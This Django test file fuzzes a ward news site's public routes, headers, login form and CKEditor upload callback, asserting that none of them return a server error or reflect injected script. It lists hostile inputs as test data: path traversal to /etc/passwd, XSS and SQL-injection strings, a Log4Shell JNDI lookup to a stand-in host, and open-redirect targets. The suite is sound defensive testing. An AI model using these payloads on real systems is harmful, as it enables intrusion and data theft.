"""Every public address, whatever its parameters, headers and method, answers
with a page, a redirect or a client error: never a server error.

A property-based test (hypothesis) draws paths, query strings, headers and
methods over every public route, and a fixed list of inputs known to have
broken sites (or this one) is tried too. The requests go through the whole
middleware stack with the test client, which answers a 500 instead of
raising, so a crash shows as its status.
"""

import json
import string
from urllib.parse import quote, quote_from_bytes, urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from articles import attachments
from articles.models import Article, Attachment

from .conftest import PHONE_UA, SECOND_HOST, png_bytes
from .test_attachments import pdf_bytes

# What a hostile request may get: a page, a redirect, "not modified", a part
# of a static file, a client error (bad request, forbidden, not found, wrong
# method, failed precondition, bad range, too many logins). Never 5xx.
ANSWERS = {200, 206, 301, 302, 304, 400, 403, 404, 405, 412, 416, 429}

ARTICLE_SLUG = "hoi-nghi-tong-ket"
CATEGORY_SLUG = "cong-tac-dang"


@pytest.fixture
def site(make_article, second_ward, media_root):
    """A ward with a published article (and its attachment), a draft, and a
    second ward: what the hostile requests go after."""
    article = make_article(slug=ARTICLE_SLUG, title="Hội nghị tổng kết")
    make_article(slug="ban-nhap", status=Article.Status.DRAFT)
    attachment = Attachment.objects.create(
        article=article,
        name="Kế hoạch.pdf",
        file=SimpleUploadedFile("ke-hoach.pdf", pdf_bytes()),
    )
    picture = media_root / "uploads" / "anh.png"
    picture.parent.mkdir(parents=True, exist_ok=True)
    picture.write_bytes(png_bytes())
    return {"article": article, "attachment": attachment}


def public_paths(site) -> list[str]:
    attachment = site["attachment"]
    admin_login = reverse("admin:login")
    return [
        "/",
        f"/chuyen-muc/{CATEGORY_SLUG}/",
        f"/chuyen-muc/{CATEGORY_SLUG}/rss/",
        f"/bai-viet/{ARTICLE_SLUG}/",
        "/bai-viet/ban-nhap/",
        "/tim-kiem/",
        "/gioi-thieu/",
        "/lien-he/",
        "/rss/",
        "/sitemap.xml",
        "/robots.txt",
        "/anh-chia-se.png",
        attachments.attachment_url(attachment),
        "/media/uploads/anh.png",
        "/ckeditor/upload/",
        "/ckeditor/browse/",
        admin_login,
        reverse("admin:index"),
        "/static/css/site.css",
    ]


def answer(client, method, path, query="", headers=None, data=None):
    url = f"{path}?{query}" if query else path
    request = getattr(client, method.lower())
    if method in ("POST", "PUT", "PATCH"):
        return request(
            url,
            data=data or b"",
            content_type="application/octet-stream",
            **(headers or {}),
        )
    return request(url, **(headers or {}))


def assert_no_server_error(response, what):
    assert response.status_code in ANSWERS, f"{what} answered {response.status_code}"


def reader():
    return Client(raise_request_exception=False, headers={"user-agent": PHONE_UA})


# 1. Drawn at random over the URL space.

# Text as an attacker types it: any Unicode (control characters, NUL,
# right-to-left marks, astral planes), and bytes that are no UTF-8 at all
# (a lone surrogate's encoding among them), percent-encoded.
any_text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=string.printable, max_size=40),
    st.binary(max_size=40).map(lambda b: quote_from_bytes(b, safe="")),
    st.sampled_from(["\x00", "\ud800", "%ED%A0%80", "%00", "%", "%zz", "+", "&"]),
    st.integers().map(str),
    st.just("9" * 400),
)
encoded = any_text.map(
    lambda text: (
        quote(text, safe="%", errors="surrogatepass") if isinstance(text, str) else text
    )
)
PARAMETERS = [
    "q",
    "page",
    "ward",
    "CKEditorFuncNum",
    "CKEditor",
    "responseType",
    "next",
    "o",
    "p",
    "e",
    "_changelist_filters",
]
queries = st.lists(
    st.tuples(st.sampled_from(PARAMETERS) | st.text(max_size=8), encoded),
    max_size=4,
).map(
    lambda pairs: "&".join(f"{quote(k, errors='surrogatepass')}={v}" for k, v in pairs)
)

HOSTS = [
    "testserver",
    SECOND_HOST,
    "BODE.LOCALHOST",
    "bode.localhost.",
    "bode.localhost:8000",
    "localhost:99999",
    "tin.example.vn",
    "[::1]",
    "[::1",
    "a" * 300,
    "",
    "bode.localhost, evil.example",
    "evil.example@bode.localhost",
    "xn--bd-9ja.localhost",
]
HEADER_NAMES = [
    "HTTP_ACCEPT_LANGUAGE",
    "HTTP_IF_NONE_MATCH",
    "HTTP_IF_MODIFIED_SINCE",
    "HTTP_IF_MATCH",
    "HTTP_IF_UNMODIFIED_SINCE",
    "HTTP_RANGE",
    "HTTP_COOKIE",
    "HTTP_ACCEPT",
    "HTTP_ACCEPT_ENCODING",
    "HTTP_REFERER",
    "HTTP_USER_AGENT",
    "HTTP_X_FORWARDED_FOR",
    "HTTP_X_FORWARDED_PROTO",
    "HTTP_SEC_FETCH_DEST",
    "HTTP_SEC_PURPOSE",
]
# What gunicorn hands over: latin-1 text without control characters (it
# answers 400 itself to a header holding NUL, a line break or DEL).
HEADER_CHARACTERS = st.characters(max_codepoint=255).filter(
    lambda c: c == "\t" or not (c < " " or c == "\x7f")
)
header_value = st.one_of(
    st.text(HEADER_CHARACTERS, max_size=60),
    st.sampled_from(
        [
            "wn_seen_1=1; wn_seen_x=%; wn_seen_99999999999999999999=; csrftoken=%00",
            "sessionid=' OR 1=1--; ckCsrfToken=" + "a" * 5000,
            'W/"x", *, "',
            "bytes=0-0,-1,99999999999999999999-",
            "Thu, 01 Jan 1970 00:00:00 GMT",
            "Sun, 99 Foo 99999 99:99:99 GMT",
            "vi-VN;q=abc, *;q=-1, " + "x-" * 200,
            "gzip;q=NaN, br",
        ]
    ),
)
headers = st.dictionaries(st.sampled_from(HEADER_NAMES), header_value, max_size=4).map(
    lambda drawn: drawn
)
METHODS = ["GET", "GET", "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH"]


@pytest.mark.django_db
@settings(
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_no_drawn_request_gets_a_server_error(site, data):
    client = reader()
    base = data.draw(st.sampled_from(public_paths(site)), label="route")
    # The route itself, or with a drawn segment in place of its last one.
    path = data.draw(
        st.one_of(
            st.just(base),
            encoded.map(lambda s: base.rstrip("/").rsplit("/", 1)[0] + f"/{s}/"),
            encoded.map(lambda s: base + s),
        ),
        label="path",
    )
    query = data.draw(queries, label="query")
    drawn_headers = data.draw(headers, label="headers")
    drawn_headers["HTTP_HOST"] = data.draw(st.sampled_from(HOSTS), label="host")
    method = data.draw(st.sampled_from(METHODS), label="method")
    response = answer(client, method, path, query, drawn_headers)
    assert_no_server_error(response, f"{method} {path}?{query} {drawn_headers}")


form_text = st.one_of(
    st.text(max_size=60),
    st.sampled_from(["\x00", "a\x00b", "' OR 1=1--", "a" * 5000, "admin", ""]),
)


@pytest.mark.django_db
@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    username=form_text,
    password=form_text,
    next_url=encoded,
    user_agent=header_value,
    forwarded=header_value,
)
def test_no_login_attempt_gets_a_server_error(
    site, username, password, next_url, user_agent, forwarded
):
    """The one public form: whatever is typed into it, and whatever the
    browser says of itself, the login protection records it or refuses it."""
    client = Client(raise_request_exception=False)
    login = reverse("admin:login")
    client.get(login)
    token = client.cookies["csrftoken"].value
    response = client.post(
        f"{login}?next={next_url}",
        {"username": username, "password": password, "csrfmiddlewaretoken": token},
        HTTP_USER_AGENT=user_agent,
        HTTP_X_FORWARDED_FOR=forwarded,
    )
    assert_no_server_error(response, f"login {username!r} {password!r}")


# 2. Known hostile inputs, every one tried.

HOSTILE_VALUES = [
    "",
    " ",
    "\x00",
    "%00",
    "%ED%A0%80",  # A lone surrogate, UTF-8-encoded.
    "%C0%AE%C0%AE%2F",  # Overlong "../".
    "%FF%FE",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "' OR '1'='1' --",
    "1;DROP TABLE articles_article",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}{% debug %}",
    "-1",
    "0",
    "1e9",
    "99999999999999999999999999",
    "9" * 10_000,
    "NaN",
    "last",
    "²",
    "١٢",
    "1.5",
    "0x10",
    "javascript:alert(1)",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example/",
    "\u202egnp.exe",
    "Hội nghị" * 2000,
    "a" * 100_000,
]
HOSTILE_PATHS = [
    "/bai-viet/%00/",
    "/bai-viet/%ED%A0%80/",
    "/bai-viet/" + "a" * 5000 + "/",
    "/chuyen-muc/../../etc/passwd/",
    "/chuyen-muc/%2e%2e/rss/",
    "/tep/99999999999999999999/x.pdf",
    "/tep/-1/x.pdf",
    "/tep/0/%00",
    "/tep/1/" + "a" * 5000,
    "/media/../wardnews/settings.py",
    "/media/%2e%2e/%2e%2e/etc/passwd",
    "/media/..%5c..%5cwardnews%5csettings.py",
    "/media/attachments/",
    "/media/%00",
    "/media/uploads/%ED%A0%80.png",
    "/media/" + "a/" * 2000,
    "/media/uploads/" + "9" * 400 + "/",  # Found: a 500 (file name too long).
    "/media/" + "9" * 400,
    "/static/../../wardnews/settings.py",
    "/static/%00",
    "/static/ckeditor/ckeditor/samples/index.html",
    "/sitemap.xml/%00",
    "/robots.txt%00",
    "/anh-chia-se.png/",
    "//evil.example/",
    "/%2F%2Fevil.example/",
    "/./././",
    "/" + "%" * 100,
]


@pytest.mark.django_db
def test_known_hostile_parameters_get_no_server_error(site):
    """Each value in every parameter at once, on every route."""
    client = reader()
    for value in HOSTILE_VALUES:
        encoded_value = quote(value, safe="%", errors="surrogatepass")
        query = "&".join(f"{name}={encoded_value}" for name in PARAMETERS)
        for path in public_paths(site):
            response = answer(client, "GET", path, query)
            assert_no_server_error(response, f"GET {path}?{query[:200]}")


@pytest.mark.django_db
@pytest.mark.parametrize("path", HOSTILE_PATHS, ids=lambda p: p[:60])
def test_known_hostile_paths_get_no_server_error(site, path):
    for method in ["GET", "HEAD", "POST", "OPTIONS"]:
        response = answer(reader(), method, path)
        assert_no_server_error(response, f"{method} {path[:200]}")


@pytest.mark.django_db
@pytest.mark.parametrize("host", HOSTS)
def test_every_host_gets_no_server_error(site, host):
    for path in public_paths(site):
        response = reader().get(path, HTTP_HOST=host)
        assert_no_server_error(response, f"GET {path} Host: {host}")


@pytest.mark.django_db
def test_junk_cookies_and_validators_get_no_server_error(site):
    article_url = site["article"].get_absolute_url()
    client = reader()
    for name, value in [
        (f"wn_seen_{site['article'].pk}", "%00" * 10),
        ("wn_seen_", "1"),
        ("sessionid", "x" * 4000),
        ("csrftoken", "'\"<>"),
        ("ckCsrfToken", "\u00ff" * 10),
        ("django_language", "../../etc"),
    ]:
        client.cookies[name] = value
    for headers in [
        {"HTTP_IF_NONE_MATCH": '"' + "x" * 10_000},
        {"HTTP_IF_NONE_MATCH": "*"},
        {"HTTP_IF_MODIFIED_SINCE": "not a date"},
        {"HTTP_IF_MATCH": '"nope"'},
        {"HTTP_IF_UNMODIFIED_SINCE": "Thu, 01 Jan 1970 00:00:00 GMT"},
        {"HTTP_ACCEPT_LANGUAGE": "x" * 10_000},
        {"HTTP_RANGE": "bytes=99999999999999999999-"},
        {"HTTP_X_FORWARDED_FOR": "999.999.999.999, ::g, " * 50},
    ]:
        for path in [*public_paths(site), article_url]:
            response = answer(client, "GET", path, headers=headers)
            assert_no_server_error(response, f"GET {path} {headers}")


# 3. The editor's upload callback number (CKEditorFuncNum).


@pytest.fixture
def uploading(client, writer):
    client.force_login(writer)
    client.cookies["ckCsrfToken"] = "t" * 40
    return client


@pytest.mark.parametrize(
    "func_num",
    [
        "1);alert(document.domain);//",
        "0,alert(1)",
        "²",
        "١٢",
        "3\n",
        " 3",
        "1" * 10_000,
        "0x1",
        "</script><script>alert(1)</script>",
    ],
)
def test_a_hostile_editor_callback_number_never_reaches_the_script(
    uploading, ward, func_num
):
    """The image dialog's callback number goes into a script, on a
    successful upload as on a refused one: only a plain number does."""
    url = (
        f"/ckeditor/upload/?{urlencode({'ward': ward.pk, 'CKEditorFuncNum': func_num})}"
    )
    for upload in [SimpleUploadedFile("anh.png", png_bytes(), "image/png"), None]:
        form = {"ckCsrfToken": "t" * 40}
        if upload:
            form["upload"] = upload
        response = uploading.post(url, form)
        assert response.status_code == 200
        assert "<script" not in response.text
        assert func_num not in response.text
        answer_ = response.json()
        assert answer_["uploaded"] in ("1", 0)


def test_a_plain_callback_number_gets_the_script(uploading, ward):
    url = f"/ckeditor/upload/?ward={ward.pk}&CKEditorFuncNum=12"
    upload = SimpleUploadedFile("Ảnh hội nghị.png", png_bytes(), "image/png")
    response = uploading.post(url, {"ckCsrfToken": "t" * 40, "upload": upload})
    assert response.text.startswith(
        "<script>window.parent.CKEDITOR.tools.callFunction(12, "
    )
    picture_url = json.loads(response.text.split("(12, ", 1)[1].split(", ")[0])
    assert picture_url.startswith("/media/uploads/")
